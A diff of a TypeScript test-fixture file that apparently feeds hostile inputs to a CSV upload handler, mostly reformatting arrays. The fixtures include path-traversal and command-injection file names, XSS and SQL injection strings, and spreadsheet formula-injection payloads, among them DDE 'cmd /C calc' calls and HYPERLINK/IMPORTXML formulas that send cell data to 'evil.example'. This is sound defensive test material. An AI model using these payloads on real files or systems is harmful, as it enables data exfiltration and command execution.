@@ -51,13 +51,17 @@ const kinds: [string, string | Uint8Array][] = [
   ['JSON', '[{"First":"Ann","Phone":"3025550148"}]'],
   ['a mark of UTF-16 alone', Buffer.from([0xff, 0xfe])],
   ['a mark of UTF-8 alone', Buffer.from([0xef, 0xbb, 0xbf])],
-  ['UTF-32', Buffer.from(`\xff\xfe\0\0${[...good].map((one) => `${one}\0\0\0`).join('')}`, 'latin1')],
+  [
+    'UTF-32',
+    Buffer.from(`\xff\xfe\0\0${[...good].map((one) => `${one}\0\0\0`).join('')}`, 'latin1'),
+  ],
   ['UTF-7', '+ACI-First+ACI-,Phone\n+AD0-cmd()\n'],
   ['EBCDIC', Buffer.from(good).map((byte) => (byte + 0x80) & 0xff)],
   ['text in the other direction', Buffer.from(`\ufeff${good}`, 'utf16le').swap16().subarray(0, -1)],
   ['UTF-8 in too many bytes', Buffer.from(`${head}\xc0\xaf\xe0\x80\xaf,3025550148\n\0`, 'latin1')],
   ['NULs alone', Buffer.alloc(100_000)],
   ['one byte', 'a'],
+  ['8 MB of commas', ','.repeat(8_000_000)],
   ['quotes alone', '"'.repeat(100_001)],
   ['2,001 columns', `${Array.from({ length: 2_001 }, (_, n) => `c${n}`).join(',')}\n`],
   ['a cell of 2 MB', `${head}${'x'.repeat(2_000_000)},3025550148\n`],
@@ -97,23 +101,86 @@ export const badFiles = (): BadFile[] => [
 ];
 
 export const fileNames: string[] = [
-  ...['', '.', '..', '../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\a.csv'],
-  ...['a\0.csv', 'a.csv\0.exe', 'a\r\nSet-Cookie: a=b.csv', '.htaccess', 'CON', 'a/b.csv', 'a.csv/'],
-  ...['a'.repeat(10_000), '\u202evsc.exe', '<img src=x onerror=alert(1)>.csv', "'; DROP TABLE sound; --"],
-  ...['=cmd().csv', '%2e%2e%2fa.csv', 'a%00.csv', '\ud800.csv', '💥'.repeat(300), 'a;filename=b.csv'],
+  ...[
+    '',
+    '.',
+    '..',
+    '../../../../etc/passwd',
+    '..\\..\\windows\\win.ini',
+    '/etc/passwd',
+    'C:\\a.csv',
+  ],
+  ...[
+    'a\0.csv',
+    'a.csv\0.exe',
+    'a\r\nSet-Cookie: a=b.csv',
+    '.htaccess',
+    'CON',
+    'a/b.csv',
+    'a.csv/',
+  ],
+  ...[
+    'a'.repeat(10_000),
+    '\u202evsc.exe',
+    '<img src=x onerror=alert(1)>.csv',
+    "'; DROP TABLE sound; --",
+  ],
+  ...[
+    '=cmd().csv',
+    '%2e%2e%2fa.csv',
+    'a%00.csv',
+    '\ud800.csv',
+    '💥'.repeat(300),
+    'a;filename=b.csv',
+  ],
   ...['$(id).csv', '`id`.csv', '|id', '-rf', '~', 'people.csv.exe', 'people.php', 'people.svg'],
 ];
 
 export const mediaTypes: string[] = [
-  ...['text/html', 'image/svg+xml', 'application/x-msdownload', 'application/zip', 'message/rfc822'],
-  ...['multipart/mixed; boundary=x', 'text/csv; charset=utf-7', 'text/csv; charset=no-such', '', '/'],
+  ...[
+    'text/html',
+    'image/svg+xml',
+    'application/x-msdownload',
+    'application/zip',
+    'message/rfc822',
+  ],
+  ...[
+    'multipart/mixed; boundary=x',
+    'text/csv; charset=utf-7',
+    'text/csv; charset=no-such',
+    '',
+    '/',
+  ],
   ...['text/csv; charset="', 'a'.repeat(5_000), 'application/json', 'text/csv;'.repeat(500)],
 ];
 
 /** What spreadsheets, old ones too, take for a formula. */
 export const formulas: string[] = [
-  ...['=1+1', "=cmd|'/C calc'!A0", '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1'],
-  ...[' =1+1', '\u200b=1+1', '\ufeff=1+1', '＝1+1', '＋1', '－1', '＠A1', '"=1+1', "'=1+1", '\n=1+1'],
+  ...[
+    '=1+1',
+    "=cmd|'/C calc'!A0",
+    '+1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+  ],
+  ...[
+    ' =1+1',
+    '\u200b=1+1',
+    '\ufeff=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠A1',
+    '"=1+1',
+    "'=1+1",
+    '\n=1+1',
+  ],
   ...['=HYPERLINK("http://evil.example?x="&A1,"ok")', '%0A=1+1', ';=1+1', ',=1+1', '|=1+1'],
-  ...['=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', '=DDE("cmd";"/C calc";"x")', '\u00a0=1+1'],
+  ...[
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    '\u00a0=1+1',
+  ],
 ];
